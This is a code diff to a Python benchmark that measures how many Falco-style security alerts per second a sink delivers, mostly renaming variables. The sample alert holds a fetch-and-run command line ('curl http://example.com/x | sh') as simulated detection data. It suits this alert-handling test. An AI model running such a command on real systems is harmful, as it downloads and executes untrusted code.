@@ -2,7 +2,7 @@
 
     python -m benchmarks.sinks [--count 50000] [--only NAME]
 
-A sink gets its alerts from an outlet as in a run. The receivers of syslog are processes of their own; where there are
+A sink gets its alerts from a worker as in a run. The receivers of syslog are processes of their own; where there are
 few cores they take their share of them.
 """
 
@@ -141,18 +141,18 @@ SINKS: dict[str, Callable[[], Any]] = {
 async def measure(sink: Sink, count: int, *, blocking: bool) -> float:
     """Alerts a second."""
     metrics = Metrics()
-    channel = MemoryQueue(count, metrics)
-    stage = Isolated("sink", "measured", sink, metrics, blocking=blocking)
-    outlet = SinkWorker(stage, FalcoJson(), channel, agent="host", on_closed=print)
+    queue = MemoryQueue(count, metrics)
+    isolated = Isolated("sink", "measured", sink, metrics, blocking=blocking)
+    worker = SinkWorker(isolated, FalcoJson(), queue, agent="host", on_closed=print)
     values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
     for _ in range(count):
-        outlet.accept(alert("A shell was started", "Shell started in a container", **values))
-    await outlet.start()
-    channel.close()
+        worker.accept(alert("A shell was started", "Shell started in a container", **values))
+    await worker.start()
+    queue.close()
     begin = time.perf_counter()
-    await outlet.run()
+    await worker.run()
     seconds = time.perf_counter() - begin
-    await outlet.stop()
+    await worker.stop()
     counts = {name: value for name, _, value in metrics.collect()}
     assert counts["sink_alerts_delivered_total"] == count, counts
     return count / seconds
